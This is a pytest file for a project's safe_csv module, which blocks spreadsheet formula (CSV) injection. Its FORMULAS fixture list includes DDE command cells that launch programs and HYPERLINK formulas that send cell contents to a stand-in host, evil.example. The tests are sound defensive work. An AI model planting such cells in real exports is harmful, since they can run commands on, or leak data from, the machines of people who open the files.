"""No CSV cell Vigie writes can run as a spreadsheet formula (OWASP's CSV injection guidance)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from safe_csv import ESCAPE, is_formula, neutralise, restore, write_csv, write_frame, write_rows
from vigie_cli.estimate import write_results

ROOT = Path(__file__).resolve().parents[1]

#: Cells found planted in census files and names, each of which a spreadsheet runs.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(A1:A9)",
    '=HYPERLINK("http://evil.example")',
]
#: Cells that must come out exactly as they are.
PLAIN = ["Lévis", "Saint-Jean-sur-Richelieu", "-12", "+3.5", "-1e-3", "0", "", "a=b", "x@y.org"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_neutralised_and_restorable(text: str) -> None:
    assert is_formula(text)
    written = neutralise(text)
    assert written == ESCAPE + text
    assert not is_formula(written)
    assert restore(written) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_cells_and_numbers_are_untouched(text: str) -> None:
    assert not is_formula(text)
    assert neutralise(text) == text
    assert restore(text) == text
    assert neutralise(12) == 12 and neutralise(-1.5) == -1.5 and neutralise(None) is None


def test_written_rows_read_back_as_text_never_as_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [[text, 1, None, float("nan"), -2.5] for text in [*FORMULAS, *PLAIN]]
    assert write_csv(path, ["=name", "count", "none", "nan", "value"], rows) == len(rows)
    read = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    assert read[0] == ["'=name", "count", "none", "nan", "value"]
    for (cell, count, none, nan, value), text in zip(read[1:], [*FORMULAS, *PLAIN], strict=True):
        assert not is_formula(cell)
        assert restore(cell) == text
        assert (count, none, nan, value) == ("1", "", "", "-2.5")
    buffer = io.StringIO()
    assert write_rows(buffer, ["a"], [["=1", 'extra, "quoted"\nline']]) == 1
    assert buffer.getvalue() == 'a\n\'=1,"extra, ""quoted""\nline"\n'


def test_the_estimate_results_file_is_written_safely(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "municipality": ["=cmd|' /C calc'!A0", "Lévis"],
            "estimate": [-0.25, 0.5],
            "n": [12, 30],
        }
    )
    path = tmp_path / "results.csv"
    write_results(frame, path)
    expected = frame.to_csv(index=False).replace("=cmd", "'=cmd")
    assert path.read_text(encoding="utf-8") == expected
    assert write_frame(frame, tmp_path / "again.csv") == 2


def _writes_csv_itself(tree: ast.AST) -> list[int]:
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in {"to_csv", "writer", "DictWriter"}:
            owner = node.value
            if node.attr == "to_csv" or (isinstance(owner, ast.Name) and owner.id == "csv"):
                lines.append(node.lineno)
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any(alias.name in {"writer", "DictWriter"} for alias in node.names)
        ):
            lines.append(node.lineno)
    return lines


def test_every_csv_vigie_writes_goes_through_safe_csv() -> None:
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "safe_csv", "build"} or any(
            part.startswith(".") for part in relative.parts
        ):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        offenders += [f"{relative}:{line}" for line in _writes_csv_itself(tree)]
    assert offenders == [], "write CSV with safe_csv.write_csv / write_frame / write_rows"
